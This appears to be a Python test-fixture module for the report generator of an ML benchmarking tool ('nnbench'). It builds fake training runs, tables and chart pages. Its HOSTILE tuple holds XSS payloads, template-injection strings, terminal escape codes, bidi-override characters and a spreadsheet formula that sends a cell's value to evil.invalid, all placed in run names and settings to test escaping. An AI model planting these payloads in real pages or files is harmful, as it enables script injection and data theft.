"""Reports from made-up runs: one as large as reports become, one whose every name is an attack."""

import shlex
from dataclasses import replace

import altair as alt
import numpy as np
import pandas as pd

from nnbench.pages import Answer, Caveat, Link, Number, Page, Section, Table, write_page
from nnbench.pages.figures import Figure, chart, colours, legend_toggle, shown_if
from nnbench.report import write_report

from ..report.runs import RATES, Curves, lost, question, run, table

LONG = (
    "a_data_set_with_a_name_that_no_axis_has_room_for",
    "my_package.with.a.path.Activation(negative_slope=0.01)",
)
DATASETS = ("digits", "diabetes", LONG[0])
ACTIVATIONS = ("relu", "tanh", "sigmoid", "gelu", "leaky_relu", "hard_sigmoid", "softplus", LONG[1])

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script>",
    "`x` | y | [z](javascript:alert(1)) ![i](http://evil.invalid/i.png)",
    "' onmouseover=alert(1) <!-- <script> -->",
    "two\nlines\n\n# a heading\n- an item\n<b>bold</b>",
    "{{ 7*7 }} {% raw %} ${alert(1)} \\u003cb\\u003e",
    '=HYPERLINK("http://evil.invalid/"&A1)\x1b[2J\x1b]8;;http://evil.invalid/\x07\u202egnp\x9b31m\0',
    "@SUM(A1)\u2066\x7f",
)


def depth_runs(datasets=DATASETS, depths=(0, 1, 2, 3, 6, 9, 12, 20), seeds=4):
    """Runs of many depths, rates and data sets, with all that can become of a run."""
    rows = []
    chance = np.random.default_rng(0)
    for d, name in enumerate(datasets):
        metric = "r2" if name == "diabetes" else "accuracy"
        for depth in depths:
            for lr in RATES:
                for seed in range(seeds):
                    figure = 0.95 - 0.05 * d - 0.002 * depth - lr + 0.02 * chance.random()
                    if lr == 0.1 and depth > 9:
                        rows.append(lost(seed, depth, dataset=name, lr=lr))
                    else:
                        reason = "stalled: train_loss never fell" if depth == 20 else ""
                        drawn = run(
                            seed, depth, figure, figure + 0.01, figure + 0.03, metric=metric,
                            dataset=name, lr=lr, n_params=1000 * (depth + 1), reason=reason,
                        )  # fmt: skip
                        rows.append(drawn)
    return table(*rows)


def activation_runs(values=ACTIVATIONS, datasets=DATASETS, seeds=6):
    """Runs of many names, some of them long."""
    chance = np.random.default_rng(1)
    return table(
        *(
            run(s, 3, 0.9 - 0.02 * v + 0.05 * chance.random(), dataset=name, activation=value)
            for name in datasets
            for v, value in enumerate(values)
            for s in range(seeds)
        )
    )


def hostile_runs():
    """Runs whose data sets, settings, reasons and keys are attacks."""
    rows = []
    for number, name in enumerate(HOSTILE[:3]):
        for seed in range(3):
            for value in HOSTILE:
                settings = {"dataset": name, "activation": value, HOSTILE[1]: HOSTILE[number]}
                rows.append(run(seed, 1, 0.8 + number / 100 + seed / 1000, **settings))
        rows += [lost(5, 1, dataset=name, activation=why, reason=why) for why in HOSTILE]
    return table(*rows)


def write(runs, directory, compare="depth", epochs=50, **changes):
    """The report on some runs."""
    asked = replace(question(compare), **changes)
    return write_report(runs, Curves(runs, epochs), asked, directory)


def write_hostile(directory):
    """The report on runs whose every name is an attack."""
    return write(
        hostile_runs(),
        directory,
        compare="activation",
        experiment=HOSTILE[0] + HOSTILE[5],
        commands=tuple(shlex.join(["python", "-m", "nnbench", f"x={name}"]) for name in HOSTILE),
        skipped=dict.fromkeys(HOSTILE, 3),
    )


def table_by_hand():
    """A table with every kind of cell."""
    rows = [
        [
            "b10",
            Number("~ 9.5% (1 to 20)", 0.095),
            Number("1,200", 1200),
            Link("run a", "http://127.0.0.1:5000/#/runs/a"),
            Number("x", 4),
        ],
        [
            "b9",
            Number("—", float("nan")),
            Number("−3", -3),
            Link("run c", "runs/c?x=1&y=(2)|3"),
            "lost",
        ],
        [
            "a",
            Number("10.0%", 0.1),
            Number("0.5", 0.5),
            Link(HOSTILE[1], "https://mlflow.example/" + LONG[0]),
            Number("3", 1),
        ],
        ["B", "lost", Number("1e-05", 1e-5), "none", Number("2", 3)],
    ]
    columns = ["name", "score", "number", "run", "by value"]
    return Table("by-hand", columns, rows, pd.DataFrame({"name": list("wxyz")}))


def panel_by_hand(names=("one", "two", *LONG), title="a panel", x="x:Q"):
    """Lines of some names, on axes that can be zoomed."""
    frame = pd.DataFrame(
        [{"x": i, "y": i * n, "value": name} for i in range(1, 9) for n, name in enumerate(names)]
    )
    toggle = legend_toggle("value")
    colour = colours(list(names), "name")
    base = chart(frame).encode(x=x, y="y:Q", color=colour, opacity=shown_if(toggle))
    dots = base.mark_point(filled=True).encode(tooltip=["value:N", "x:Q", "y:Q"])
    return alt.layer(base.mark_line(), dots).add_params(toggle).properties(title=title)


def page_by_hand(names=("one", "two", *LONG), **changes):
    """A page with one table and two panels."""
    panels = [panel_by_hand(names, title=LONG[0] * 2), panel_by_hand(names, x="x:O")]
    figure = Figure("lines", "Lines.", panels, alt="Lines that rise.")
    # Enough below for the page to scroll.
    sections = [
        Section("lines", "Lines", figures=[figure]),
        Section("table", "A table", text=["More."] * 60, tables=[table_by_hand()]),
    ]
    page = Page("By hand", "a subject", ["It is so."], sections, "Written by hand.", "python x")
    return replace(page, **changes)


def write_by_hand(directory, formats=(), **changes):
    """Write that page."""
    return write_page(page_by_hand(**changes), directory, formats)


def answer_by_hand(headline="Accuracy falls by 0.4 pp (90% CI 0.2 to 0.6).", question="Or?"):
    """Changes that make that page one with an answer, on three pages."""
    first = Figure("forest", "Differences.", [panel_by_hand(title="digits")], panels_a_row=1)
    rest = Figure("rest", "The rest.", [panel_by_hand()], folded=True)
    caveat = Caveat("One size only:", "python -m nnbench params=1000,5000")
    sections = [
        Section("answer", "All values", tables=[table_by_hand()], figures=[first, rest],
                page="answer"),
        *page_by_hand().sections,
        Section("costs", "Costs", figures=[Figure("costs", "Costs.", [panel_by_hand()])]),
        Section("how", "How it was run", text=["So."], page="provenance"),
    ]  # fmt: skip
    answer = Answer(headline, ("One is best.", "Tuned."), (caveat, Caveat(HOSTILE[1])))
    sections[2] = replace(sections[2], tables=[replace(table_by_hand(), name="second")])
    return {"title": question, "answer": answer, "sections": sections}
